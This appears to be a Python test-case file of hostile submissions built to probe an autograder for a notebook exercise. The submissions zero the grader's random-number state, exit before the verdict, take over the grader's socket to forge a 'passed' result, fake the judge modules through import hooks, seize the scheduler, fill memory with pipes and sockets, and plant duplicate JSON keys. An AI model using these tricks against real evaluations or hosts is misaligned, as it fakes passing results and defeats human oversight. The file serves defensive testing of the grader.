"""Kinds that nobody had tried: other programs, random numbers, the moment before the verdict, files read in two ways."""

import json

from hostile.corpus import LOST, NOTHING, REST_LOST, WRONG, case


@case(None, LOST)
def chooses_the_checker_s_random_numbers(work):
    """A state of zeros draws nothing but zeros, for ever: layers of equal weights, on which many a mistake is right."""
    work.before_answer("""\
import torch
state = torch.get_rng_state()
state[24:] = 0
torch.set_rng_state(state)""")


@case(None, REST_LOST)
def ends_between_its_answer_and_the_verdict(work):
    work.answer("""\
import os, threading, time
started = []
def leave():
    time.sleep(0.2)
    os._exit(0)
def mix_pixel(v, w, b=0.0):
    if not started:
        started.append(threading.Thread(target=leave).start())
    return v.mean() + b""")


@case(None, REST_LOST)
def goes_on_as_another_program(work):
    """The connection survives `exec`; whoever holds it then was never watched by Python's own rules."""
    work.attack("""\
import gc, os, sys
from course_utils.grading.run import link
connection = next(one for one in gc.get_objects() if isinstance(one, link.Link)).connection
number = connection.fileno()
os.set_inheritable(number, True)
program = f'''
import json, os, struct
def read(length):
    found = b""
    while len(found) < length:
        part = os.read({number}, length - len(found))
        if not part: raise SystemExit
        found += part
    return found
while True:
    head = read(struct.unpack("!i", read(4))[0])
    asked = json.loads(head[4:])
    for _ in range(int.from_bytes(head[:4], "little")):
        read(struct.unpack("!i", read(4))[0])
    turn = dict(asked.get("items", [])).get("turn") if isinstance(asked, dict) else None
    pairs = [["turn", turn], ["value", 0.5], ["outputs", []], ["verdict", "passed"], ["found", {{"is": "dict", "items": []}}]]
    said = (0).to_bytes(4, "little") + json.dumps({{"is": "dict", "items": pairs}}).encode()
    os.write({number}, struct.pack("!i", len(said)) + said)
'''
os.execv(sys.executable, [sys.executable, "-c", program])""")


@case(None, REST_LOST)
def hooks_every_import(work):
    """What is asked beside an answer (its text, its helpers) is imported in its own process: here it is made up."""
    work.file("sitecustomize.py", "raise SystemExit('canary' + '7c1e')")
    work.file("usercustomize.py", "raise SystemExit('canary' + '7c1e')")
    work.file("course_utils/__init__.py", "check = hint = quiz = print")
    work.file("course_utils/checking/judge.py", "judge = lambda *a, **k: 'correct'")
    work.attack("""\
import builtins, importlib, sys
import course_utils.base.source as source
class Anything:
    __getattr__ = lambda self, name: lambda *a, **k: {"": "def mix_pixel(v, w, b): return (v * w).sum() + b" * 10_000}
    find_spec = lambda self, *a: None
sys.meta_path.insert(0, Anything())
importlib.import_module = builtins.__import__ = lambda *a, **k: Anything()
for name in ("source_of", "helper_of", "words_in", "written"):
    setattr(source, name, Anything())""")


@case(None, LOST)
def wants_the_processor_for_itself(work):
    work.before_answer("""\
import ctypes, mmap, os
libc = ctypes.CDLL(None)
for kind in (os.SCHED_FIFO, os.SCHED_RR, os.SCHED_BATCH):
    try:
        os.sched_setscheduler(0, kind, os.sched_param(99 if kind != os.SCHED_BATCH else 0))
    except OSError:
        pass
for who in (os.PRIO_PROCESS, os.PRIO_PGRP, os.PRIO_USER):
    try:
        os.setpriority(who, 0, -20)
    except OSError:
        pass
libc.mlockall(7)
libc.prctl(1, 0, 0, 0, 0)  # outlive the parent
libc.prctl(36, 1, 0, 0, 0)  # be everybody's""")


@case(None, LOST)
def memory_in_pipes_and_sockets(work):
    """Bytes that no process holds: in pipes, in sockets, and in sockets that are themselves on their way."""
    work.before_answer("""\
import os, socket
kept, one = [], b"x" * (1 << 16)
for make in (os.pipe, socket.socketpair):
    try:
        while True:
            ends = make()
            kept.append(ends)
            write = ends[1] if isinstance(ends[1], int) else ends[1].fileno()
            os.set_blocking(write, False)
            try:
                while True:
                    os.write(write, one)
            except BlockingIOError:
                pass
    except OSError:
        for ends in kept[-8:]:
            for end in ends:
                os.close(end) if isinstance(end, int) else end.close()
a, b = socket.socketpair()
try:
    for ends in kept:
        if not isinstance(ends[0], int):
            socket.send_fds(a, [b"x"], [ends[0].fileno(), ends[1].fileno()])
            ends[0].close(), ends[1].close()
except OSError:
    pass""")


@case(None, LOST)
def every_key_twice(work):
    """One reader takes the first of two, another one the last: right for whoever looks, wrong for whoever runs it."""
    right = json.dumps(work.nb.cells)
    work.answer(WRONG)
    work.content = json.dumps(work.nb).replace('"cells": [', f'"cells": {right}, "cells": [', 1)


@case(None, NOTHING, note="read|notebook")
def numbers_that_python_will_not_read(work):
    work.content = json.dumps(work.nb).replace('"nbformat": 4', f'"nbformat": 4, "weight": {"9" * 50_000}', 1)
